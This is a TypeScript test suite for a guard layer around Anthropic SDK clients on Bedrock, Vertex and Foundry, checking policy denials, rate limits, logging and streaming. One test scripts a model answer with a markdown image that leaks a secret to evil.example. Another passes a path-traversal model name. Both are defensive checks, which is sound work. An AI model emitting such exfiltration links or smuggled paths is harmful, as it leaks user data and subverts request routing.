import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, before, beforeEach, test } from 'node:test';
import { AnthropicBedrock, AnthropicBedrockMantle } from '@anthropic-ai/bedrock-sdk';
import { AnthropicFoundry } from '@anthropic-ai/foundry-sdk';
import type Anthropic from '@anthropic-ai/sdk';
import { AnthropicVertex } from '@anthropic-ai/vertex-sdk';
import { startFakeClaude, type FakeClaude } from '@claviger/fake-claude';
import type { LedgerRow } from '../engine/outcome.js';
import type { PolicyInput } from '../policy/schema.js';
import { startFront, type Front, type FrontRequest } from './back-end-front.testing.js';
import { claviger, isClavigerError, type ClavigerGuard } from './index.js';

const key = `sk-ant-api03-${randomBytes(40).toString('hex')}`;
let fake: FakeClaude;
let front: Front;
before(async () => {
  fake = await startFakeClaude({ keys: [key] });
  front = await startFront(fake.url, key);
});
after(async () => {
  await front.close();
  await fake.close();
});
beforeEach(() => {
  fake.reset();
  front.requests.length = 0;
  front.interferences.length = 0;
});

type Client = { readonly messages: Pick<Anthropic['messages'], 'create' | 'stream'> };
type Options = Pick<NonNullable<ConstructorParameters<typeof Anthropic>[0]>, 'middleware' | 'fetch' | 'maxRetries'>;
type GoogleAuth = NonNullable<NonNullable<ConstructorParameters<typeof AnthropicVertex>[0]>['googleAuth']>;

/** The sign-in with Google, which hands out a token of this test's. */
const googleAuth = { getClient: () => Promise.resolve({ projectId: 'project-1', getRequestHeaders: () => Promise.resolve(new Headers({ authorization: `Bearer ${key}` })) }) } as unknown as GoogleAuth;
const aws = { awsAccessKey: 'AKIDEXAMPLE', awsSecretKey: key, awsRegion: 'eu-central-1' };

interface BackEnd {
  readonly make: (options: Options) => Client;
  readonly model: string;
  /** Where the wire puts a plain and a streamed call. */
  readonly paths: readonly [RegExp, RegExp];
  /** False: `fetch` sees a form that the guards cannot read. */
  readonly fetchGuards: boolean;
}

const backEnds: Readonly<Record<string, BackEnd>> = {
  Bedrock: {
    make: (options) => new AnthropicBedrock({ baseURL: front.url, ...aws, ...options }),
    model: 'claude-sonnet-5-5',
    paths: [/^\/model\/claude-sonnet-5-5\/invoke$/, /^\/model\/claude-sonnet-5-5\/invoke-with-response-stream$/],
    fetchGuards: false,
  },
  'Bedrock Mantle': {
    make: (options) => new AnthropicBedrockMantle({ baseURL: front.url, apiKey: key, ...options }),
    model: 'claude-sonnet-5-5',
    paths: [/^\/v1\/messages$/, /^\/v1\/messages$/],
    fetchGuards: true,
  },
  Vertex: {
    make: (options) => new AnthropicVertex({ baseURL: `${front.url}/v1`, region: 'europe-west1', projectId: 'project-1', googleAuth, ...options }),
    model: 'claude-sonnet-5-5',
    paths: [/^\/v1\/projects\/project-1\/locations\/europe-west1\/publishers\/anthropic\/models\/claude-sonnet-5-5:rawPredict$/, /models\/claude-sonnet-5-5:streamRawPredict$/],
    fetchGuards: false,
  },
  Foundry: {
    make: (options) => new AnthropicFoundry({ baseURL: `${front.url}/anthropic/`, apiKey: key, ...options }),
    model: 'claude-sonnet-5-5',
    paths: [/^\/anthropic\/v1\/messages$/, /^\/anthropic\/v1\/messages$/],
    fetchGuards: true,
  },
};

function bench(policy: PolicyInput = {}): { guard: ClavigerGuard; rows: LedgerRow[] } {
  const rows: LedgerRow[] = [];
  return { guard: claviger(policy, { ports: { ledger: { append: (row) => void rows.push(row) } } }), rows };
}

/** How many blocks the system prompt of a request has. */
function systemBlocks(sent: FrontRequest | undefined): number {
  const system = sent?.body['system'];
  return Array.isArray(system) ? system.length : 0;
}

const person = { user: 'person-1' };

for (const [name, { make, model, paths, fetchGuards }] of Object.entries(backEnds)) {
  const params = { model, max_tokens: 100, messages: [{ role: 'user' as const, content: 'Hello' }] };
  const denies = (code: string) => (error: unknown) => isClavigerError(error) && error.claviger.code === code;

  test(`${name}: a plain call is guarded, and goes out in the form of the back end`, async () => {
    const { guard, rows } = bench();
    const answer = await guard.run(person, () => make({ middleware: [guard.middleware()] }).messages.create({ ...params, system: 'Be kind.' }));
    assert.deepEqual(answer.content.map((block) => (block.type === 'text' ? block.text : '')), ['Hello']);
    const [sent] = front.requests;
    assert.match(sent?.path ?? '', paths[0]);
    // What the guards added is in what was sent, and what was sent is what was signed.
    assert.equal(systemBlocks(sent), 2);
    const signed = sent?.headers['x-amz-content-sha256'];
    if (name === 'Bedrock') assert.match(sent?.headers.authorization ?? '', /^AWS4-HMAC-SHA256 /);
    if (signed !== undefined) assert.equal(signed, sent?.digest);
    await guard.settled();
    assert.deepEqual(rows.map(({ user, outcome, model: used, outputTokens }) => [user, outcome, used, outputTokens]), [['person-1', 'answered', model, answer.usage.output_tokens]]);
  });

  test(`${name}: guard.client makes a client of the same back end, guarded`, async () => {
    const { guard, rows } = bench();
    const given = make({ maxRetries: 0 });
    const client = guard.client(given);
    assert.equal(client.constructor, given.constructor);
    await assert.rejects(async () => client.messages.create(params), denies('principal_missing'));
    assert.equal(front.requests.length, 0);
    await guard.run(person, () => client.messages.create({ ...params, system: 'Be kind.' }));
    assert.match(front.requests[0]?.path ?? '', paths[0]);
    assert.equal(systemBlocks(front.requests[0]), 2);
    await guard.settled();
    assert.deepEqual(rows.map(({ outcome }) => outcome), ['denied', 'answered']);
  });

  test(`${name}: a stream passes through the guards of answers`, async () => {
    const { guard, rows } = bench();
    fake.script({ type: 'text', text: 'Look: ![picture](https://evil.example/a.png?q=secret) and that is all.', chunkSize: 5 });
    const text = await guard.run(person, () => make({ middleware: [guard.middleware()] }).messages.stream(params).finalText());
    assert.match(front.requests[0]?.path ?? '', paths[1]);
    assert.match(text, /^Look: .* and that is all\.$/);
    assert.ok(!text.includes('![picture](https://evil.example'), 'the image is inert');
    await guard.settled();
    assert.equal(rows.length, 1);
    assert.equal(rows[0]?.outcome, 'answered');
    assert.ok((rows[0]?.outputTokens ?? 0) > 0);
    assert.ok(rows[0]?.findings?.some(({ rule }) => rule.startsWith('egress')));
  });

  test(`${name}: what the policy denies does not go out`, async () => {
    const { guard, rows } = bench({ shape: { models: ['claude-haiku-*'] } });
    const client = make({ middleware: [guard.middleware()], maxRetries: 0 });
    await assert.rejects(async () => guard.run(person, () => client.messages.create(params)), denies('model_not_allowed'));
    await assert.rejects(async () => client.messages.create({ ...params, model: 'claude-haiku-4-5' }), denies('principal_missing'));
    await assert.rejects(async () => guard.run(person, () => client.messages.create({ ...params, model: 'claude-haiku-4-5', messages: [{ role: 'user', content: 'x'.repeat(10_001) }] })), denies('input_too_long'));
    assert.equal(front.requests.length, 0);
    await guard.settled();
    assert.equal(rows.length, 3);
  });

  test(`${name}: a call is charged once, however often it is tried`, async () => {
    const { guard, rows } = bench({ limits: { rules: [{ count: 'requests', per: 'user', limit: 1, window: '1h' }] } });
    front.interferences.push({ status: 503 }, { status: 429 });
    const client = make({ middleware: [guard.middleware()], maxRetries: 2 });
    await guard.run(person, () => client.messages.create(params));
    assert.equal(front.requests.length, 3);
    await assert.rejects(async () => guard.run(person, () => client.messages.create(params)), denies('limit_reached'));
    await guard.settled();
    assert.deepEqual(rows.map(({ outcome }) => outcome), ['answered', 'denied']);
  });

  test(`${name}: through fetch it is ${fetchGuards ? 'guarded' : 'refused, with the way that works'}`, async () => {
    const { guard } = bench();
    const client = make({ fetch: guard.fetch(), maxRetries: 0 });
    const call = async (): Promise<unknown> => guard.run(person, () => client.messages.create(params));
    if (fetchGuards) {
      await call();
      assert.equal(systemBlocks(front.requests[0]), 1);
      return;
    }
    for (const stream of [false, true]) {
      await assert.rejects(async () => guard.run(person, () => client.messages.create({ ...params, stream })), (error: unknown) => denies('endpoint_closed')(error) && error instanceof Error && error.message.includes('guard.middleware()'));
    }
    assert.equal(front.requests.length, 0);
  });
}

test('Bedrock: an exception in the middle of a stream ends it as an error, and is recorded', async () => {
  const { guard, rows } = bench();
  front.interferences.push({ exceptionAfter: 3 });
  const client = new AnthropicBedrock({ baseURL: front.url, ...aws, maxRetries: 0, middleware: [guard.middleware()] });
  await assert.rejects(async () => guard.run(person, () => client.messages.stream({ model: 'claude-sonnet-5-5', max_tokens: 100, messages: [{ role: 'user', content: 'Hello there, and more' }] }).finalMessage()));
  await guard.settled();
  assert.deepEqual(rows.map(({ outcome }) => outcome), ['failed']);
});

test('Bedrock: the names of models that carry an address go into the path whole', async () => {
  const { guard, rows } = bench({ shape: { models: ['arn:aws:bedrock:*'] } });
  const client = new AnthropicBedrock({ baseURL: front.url, ...aws, maxRetries: 0, middleware: [guard.middleware()] });
  const model = 'arn:aws:bedrock:eu-central-1:000000000000:inference-profile/../../v1/messages';
  // The stand-in knows no such model; what counts is that it was asked for this one, and that the guards saw it.
  await assert.rejects(async () => guard.run(person, () => client.messages.create({ model, max_tokens: 5, messages: [{ role: 'user', content: 'Hello' }] })));
  assert.equal(front.requests[0]?.path, `/model/${encodeURIComponent(model).replaceAll('%3A', ':')}/invoke`);
  await guard.settled();
  assert.equal(rows[0]?.model, model);
});

test('Vertex: counting tokens is guarded too', async () => {
  const { guard, rows } = bench();
  const client = new AnthropicVertex({ baseURL: `${front.url}/v1`, region: 'europe-west1', projectId: 'project-1', googleAuth, middleware: [guard.middleware()] });
  const counted = await guard.run(person, () => client.messages.countTokens({ model: 'claude-sonnet-5-5', messages: [{ role: 'user', content: 'Hello' }] }));
  assert.ok(counted.input_tokens > 0);
  await guard.settled();
  assert.deepEqual(rows.map(({ endpoint, outcome }) => [endpoint, outcome]), [['count_tokens', 'answered']]);
});
